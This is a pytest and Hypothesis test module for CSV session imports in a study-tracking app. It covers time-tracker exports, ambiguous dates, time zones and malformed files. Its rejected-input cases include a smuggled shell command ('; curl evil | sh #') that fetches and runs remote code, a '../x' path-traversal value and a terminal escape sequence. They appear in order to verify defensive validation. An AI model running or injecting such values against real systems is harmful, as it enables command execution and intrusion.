"""Sessions from the tables of other programs, and from any file that is said to be one."""

from pathlib import Path
from tempfile import TemporaryDirectory

import hypothesis.strategies as st
import pytest
from hypothesis import example, given

from studytui.errors import BadInput, Misuse, StudyError
from studytui.exchange.foreign_times import Order
from studytui.exchange.time_table import FIELDS
from studytui.record import Kind, State
from studytui.text import is_id
from tests.importing.conftest import Learner
from tests.tracking import empty_record

TOGGL = """\
User,Project,Task,Description,Start date,Start time,End date,End time,Duration
Ann,Loops,,for and while,2026-03-09,19:30:00,2026-03-09,20:15:00,00:45:00
Ann,Garden,,weeding,2026-03-10,23:30:00,2026-03-11,00:15:00,00:45:00
Ann,,,nothing,2026-03-10,23:30:00,2026-03-10,23:30:00,00:00:00
"""


def test_a_time_tracker_s_export(ben: Learner) -> None:
    took = ben.take(TOGGL)
    assert took.sessions == 2
    assert "no item is called “Garden”: 1 session on nothing in particular" in took.remarks
    assert "left out: 1 row with a duration of 0 (line 4)" in took.remarks
    assert "not imported, though it looks like text: “User” (--column text=User)" in took.remarks
    first, second = ben.tracker.study().record.sessions
    assert (first.item_id, first.text, first.counted) == ("loops", "for and while", 2700)
    assert (second.item_id, second.text) == (None, "Garden: weeding")
    assert second.local_start.isoformat() == "2026-03-10T23:30:00+00:00"
    assert {first.state, second.state} == {State.FINISHED}
    assert ben.take(TOGGL).is_empty
    assert ben.take(TOGGL, item="Description").is_empty
    ben.clock.travel("Asia/Tokyo")
    assert ben.take(TOGGL).is_empty
    ben.tracker.sessions.delete(first.id)
    assert ben.take(TOGGL).is_empty


def test_our_own_csv_changes_nothing(ann: Learner, ben: Learner) -> None:
    ann.study_a_bit()
    ann.clock.advance(minutes=30)
    ann.tracker.open_session.stop()
    ben.clock.advance(hours=2)
    text = ann.out.csv()
    assert ann.take(text).is_empty
    assert ben.take(text).sessions == len(ann.tracker.study().record.sessions)
    assert ben.out.csv() == text


def test_columns_by_name_and_dates_by_hand(ben: Learner) -> None:
    text = "Tag;Std;Was\n3.2.2026;1,5;Joins\n4.2.2026;0,25;Joins\n"
    assert ben.take(text, date="Tag", hours="Std", item="was").sessions == 2
    first, second = ben.tracker.study().record.sessions
    assert (first.counted, second.counted, first.study_day.isoformat()) == (5400, 900, "2026-02-03")


def test_an_id_of_another_program_becomes_one_of_ours(ben: Learner) -> None:
    text = "id,start,duration\n\x1b]52;x\x07,2026-02-20 10:00,45\nT-1,2026-02-20 12:00,45\n"
    assert ben.take(text).sessions == 2
    assert ben.take(text).is_empty
    first, second = ben.tracker.study().record.sessions
    assert is_id(first.id)
    assert is_id(second.id)


def test_dates_that_could_be_either(ben: Learner) -> None:
    text = "start,duration\n02/03/2026 10:00,1:30\n"
    with pytest.raises(BadInput, match="whether 02/03/2026 10:00 begins with the day or the month"):
        ben.take(text)
    assert ben.take(text, Order.MONTH_FIRST).sessions == 1
    assert ben.tracker.study().record.sessions[0].study_day.isoformat() == "2026-02-03"
    telling = text + "02/25/2026 1:00 PM,45\n"
    assert ben.take(telling).sessions == 1
    assert ben.tracker.study().record.sessions[1].started_at.hour == 13


def test_an_offset_is_converted_and_a_wall_time_is_the_learner_s(ben: Learner) -> None:
    ben.clock.travel("Europe/Lisbon")
    ben.take("start,end\n2026-01-05T23:00:00+05:30,2026-01-05T23:30:00+05:30\n")
    ben.take("start,end\n2025-07-05 09:00,10:00\n")
    summer, winter = ben.tracker.study().record.sessions
    assert (summer.offset_minutes, summer.counted) == (60, 3600)
    assert (winter.offset_minutes, winter.counted) == (0, 1800)
    assert winter.local_start.hour == 17


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "has no header"),
        ("a,b\n1,2\n", "has no column that tells when a session began"),
        ("start\n2026-01-01 10:00\n", "has no column that tells how long"),
        ("start,duration\n2026-01-01 10:00,soon\n", "file:2: “soon” is not a length of time"),
        ("start,duration\nnever,45\n", "file:2: “never” is not a date with a time"),
        ("start,duration\n2026-02-30 10:00,45\n", "is not a date with a time"),
        ("start,duration\n2036-02-20 10:00,45\n", "file:2: the session would start in the futur"),
        ("start,duration\n2026-02-20 10:00,25:00\n", "file:2: a session lasts from 1 second to"),
        ("start,duration,kind\n2026-02-20 10:00,45,sleep\n", "file:2: there is no kind"),
        ("start,end\n2026-02-20 10:00,2026-02-19 10:00\n", "file:2: it ends before it begins"),
        (
            "start,duration,roadmap,item\n2026-02-20 10:00,45,road,; curl evil | sh #\n",
            "file:2: '; curl evil | sh #' is not an id of letters, figures, dots and dashes",
        ),
        ("start,duration,roadmap\n2026-02-20 10:00,45,../x\n", "file:2: '../x' is not an id of"),
        ('start,duration\n"2026-02-20 10:00,45\n', "file:2: unexpected end of data"),
        ("start,duration\n2026-02-20 10:00,4\x005\n", "file:2: there is a NUL character"),
        ("start,duration\n2026-02-20 10:00,45\n2026-02-20 10:00,x\n", "file:3: “x” is not"),
        ("start,duration\n2026-02-20 10:00,y\n2026-02-20 10:00,x\n", "“y” is not a length of ti"),
        ("start,duration\n2026-02-20 10:00,y\n2026-02-20 10:00,x\n", "; line 3: “x” is not a le"),
        (
            "start,duration\n" + "2026-02-20 10:00,x\n" * 9,
            "; line 6: “x” is not a length of time; and 4 more",
        ),
        ("start,end\n2026-02-20 10:00,later\n", "“later” is not a time at which it ended"),
        ("start,end,zone\n2026-02-20 10:00,11:00,Mars/Base\n", "'Mars/Base' is not a time zone"),
    ],
)
def test_a_table_that_cannot_be_used_changes_nothing(ben: Learner, text: str, said: str) -> None:
    with pytest.raises(BadInput) as refused:
        ben.take(text)
    assert said in refused.value.title
    assert ben.tracker.study().record.sessions == ()
    assert ben.tracker.study().record.undo is None


WORDS = (
    "2026-02-20 10:00|20/02/2026|02-20-26|10:00|24:00|1:30|45|1h30|-5|0|1e9|nan|9999999999999"
    '|9999-12-31 23:59|0001-01-01|2026-03-29T02:30+24:00|loops|read|sleep|\0|\u2028|"|'
)
CELLS = st.sampled_from(WORDS.split("|")) | st.text(max_size=8)
TABLES = st.lists(
    st.lists(CELLS | st.sampled_from(sorted(FIELDS)), max_size=6).map(",".join), max_size=5
).map("\n".join)
HEADED = st.tuples(st.lists(st.sampled_from(sorted(FIELDS)), max_size=6).map(",".join), TABLES)


@given(st.binary() | TABLES.map(str.encode) | HEADED.map("\n".join).map(str.encode))
@example(b"start,duration\n9999-12-31 23:59,1:30\n")
@example(b"start,end\n2026-02-20 10:00-24:00,2026-02-20 10:00+24:00\n")
def test_any_file_is_taken_in_or_refused_in_a_line(content: bytes) -> None:
    with TemporaryDirectory() as folder:
        (Path(folder) / "study.db").write_bytes(empty_record())
        ben = Learner(Path(folder))
        (ben.folder / "file").write_bytes(content)
        try:
            ben.importing.file(ben.folder / "file", lambda _: Kind.READ)
        except StudyError:
            assert ben.tracker.study().record.undo is None
        assert ben.tracker.study().record.unreadable == ()


def test_a_header_that_is_not_there(ben: Learner) -> None:
    with pytest.raises(Misuse, match="no column “Strat”") as refused:
        ben.take("Start,Duration\n", start="Strat")
    assert refused.value.remedy == "did you mean “Start”?"
    with pytest.raises(Misuse, match="has no columns"):
        ben.take("{}", start="Start")


def test_what_is_no_file(ben: Learner, tmp_path: Path) -> None:
    (tmp_path / "bytes").write_bytes(b"start\n\xff")
    for name in ("nowhere", ".", "bytes", "/dev/zero"):
        with pytest.raises(BadInput):
            ben.importing.file(tmp_path / name, lambda _: Kind.READ)


def test_imported_sessions_that_overlap_are_counted(ben: Learner) -> None:
    ben.tracker.sessions.log("joins", Kind.READ, 600)
    took = ben.take(
        "start,end,item\n"
        "2026-03-09 10:00,2026-03-09 11:00,Loops\n"
        "2026-03-09 10:30,2026-03-09 11:30,Joins\n"
        "2026-03-10 10:00,2026-03-10 11:00,Loops\n"
    )
    assert took.sessions == 3
    assert "2 sessions overlap others; the time they share counts once" in took.remarks


@pytest.mark.parametrize("name", ["ＪＯＩＮＳ", "Jóins", "Jo\u0301ins", "joins"])
def test_items_are_found_regardless_of_accents_and_width(ben: Learner, name: str) -> None:
    ben.take(f"start,end,item\n2026-03-09 10:00,2026-03-09 11:00,{name}\n")
    (only,) = ben.tracker.study().record.sessions
    assert (only.item_id, only.text) == ("joins", "")
